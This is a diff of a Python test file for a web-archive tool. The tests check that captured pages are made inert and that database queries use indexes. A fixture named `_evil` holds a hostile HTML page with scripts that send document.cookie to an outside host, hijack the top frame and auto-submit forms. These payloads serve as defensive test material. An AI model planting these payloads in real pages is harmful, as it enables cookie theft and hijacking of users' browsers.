@@ -189,17 +189,30 @@ def test_only_pages_are_shown_as_pages(media_type: str, shown_as: str) -> None:
     assert as_frame(capture("https://a.b/", headers=(("Content-Type", media_type),)))[1] == shown_as
 
 
-@pytest.mark.parametrize("tag", ["<link rel=preconnect>", "<LINK\n>", "<meta/http-equiv=refresh>", "<Base href=x>"])
-def test_q4_what_reaches_out_is_inert(tag: str) -> None:
-    text, _ = as_frame(capture("https://a.b/", body=f"<html>{tag}<linked>".encode()))
-    assert text.startswith("<html><basefont")
-    assert text.endswith("<linked>")
+@pytest.mark.parametrize(
+    ("tag", "inert"),
+    [
+        ("<link rel=preconnect>", "<basefont rel=preconnect>"),
+        ("<LINK\n>", "<basefont\n>"),
+        ("<meta/http-equiv=refresh>", "<basefont/http-equiv=refresh>"),
+        ("<Base href=x>", "<basefont href=x>"),
+        ("<a/href=x>", '<a href="#"/href=x>'),
+        ("<iframe src=x>", '<iframe src="" srcdoc="" src=x>'),
+        ("<article><abbr>", "<article><abbr>"),
+    ],
+)
+def test_q4_what_reaches_out_is_inert(tag: str, inert: str) -> None:
+    assert as_frame(capture("https://a.b/", body=f"<html>{tag}".encode()))[0] == f"<html>{inert}"
 
 
 def test_captures_are_asked_for_through_indexes(archive: Path) -> None:
     with closing(sqlite3.connect(f"file:{archive}?mode=ro", uri=True)) as conn:
         assert [line.article_id for line in nearby_reading.read_from(conn, PLAIN, 10)] == [1]
         assert nearby_reading.other_looks(conn, PLAIN, 10) == ()
+        plan = [row[3] for row in conn.execute(f"EXPLAIN QUERY PLAN {nearby_reading.READ_FROM}", (PLAIN, 10))]
+    assert not [step for step in plan if step.startswith("SCAN") and "INDEX" not in step and "TEMP" not in step]
+    assert any("articles_capture" in step for step in plan)
+    assert any("versions_capture" in step for step in plan)
 
 
 def test_other_captures_of_the_address_are_named(tmp_path: Path) -> None:
@@ -248,16 +261,21 @@ def _evil(outside: str) -> bytes:
 <style>@import url("{outside}/import.css"); @font-face {{ font-family: f; src: url("{outside}/f") }}
 body {{ font-family: f; background: url("{outside}/bg.png"); color: rgb(1, 2, 3) }}</style>
 <script src="{outside}/x.js"></script>
-<script>document.title='stolen'; top.document.title='stolen'; fetch('{outside}/'+document.cookie); top.location='{outside}/top'</script>
+<script>top.document.title='stolen'; fetch('{outside}/'+document.cookie)</script>
+<script>top.location='{outside}/top'</script>
 </head><body onload="top.document.title='stolen'; document.forms[0].submit()">
 <p id="words">{WORDS}</p><img src="{outside}/i.png" onerror="top.document.title='stolen'"><img src="relative.png">
-<img srcset="{outside}/set.png 1x"><video src="{outside}/v" autoplay poster="{outside}/poster"></video><audio src="{outside}/a" autoplay></audio>
+<img srcset="{outside}/set.png 1x"><video src="{outside}/v" autoplay poster="{outside}/poster"></video>
+<audio src="{outside}/a" autoplay></audio>
 <iframe src="{outside}/frame"></iframe><iframe srcdoc="<script>top.document.title='stolen'</script>"></iframe>
 <object data="{outside}/object"></object><embed src="{outside}/embed">
-<svg><image href="{outside}/svg.png"/><script>top.document.title='stolen'</script><animate onbegin="top.document.title='stolen'" attributeName="x" dur="1s"/></svg>
-<form action="{outside}/form"><input name="q" value="1" autofocus onfocus="top.document.title='stolen'"><button id="send">send</button></form>
+<svg><image href="{outside}/svg.png"/><script>top.document.title='stolen'</script>
+<animate onbegin="top.document.title='stolen'" attributeName="x" dur="1s"/></svg>
+<form action="{outside}/form"><input name="q" value="1" autofocus onfocus="top.document.title='stolen'">
+<button id="send">send</button></form>
 <a id="same" href="{outside}/same" ping="{outside}/ping">same</a> <a id="top" target="_top" href="{outside}/top">top</a>
-<a id="new" target="_blank" href="{outside}/new">new</a> <a id="script" href="javascript:top.document.title='stolen'">script</a>
+<a id="new" target="_blank" href="{outside}/new">new</a>
+<a id="script" href="javascript:top.document.title='stolen'">script</a>
 </body></html>""".encode()
 
 
@@ -270,8 +288,6 @@ def test_q4_a_captured_page_can_do_nothing(tmp_path: Path, chromium: Browser) ->
         with served(path) as url, closing(chromium.new_context()) as context:
             context.add_cookies([{"name": "warraq_theme", "value": "dark", "url": url}])
             page = context.new_page()
-            opened_pages: list[object] = []
-            context.on("page", opened_pages.append)
             page.goto(f"{url}/capture/1")
             page.locator("iframe").scroll_into_view_if_needed()
             frame = page.frame_locator("iframe")
@@ -286,7 +302,7 @@ def test_q4_a_captured_page_can_do_nothing(tmp_path: Path, chromium: Browser) ->
             assert page.url == f"{url}/capture/1"
             assert page.title() == "Capture \u20681\u2069 · Warraq"
             assert page.locator("main iframe").count() == 1
-            assert opened_pages == []
+            assert context.pages == [page]
             assert {cookie["name"] for cookie in context.cookies()} == {"warraq_theme"}
     assert seen == []
 
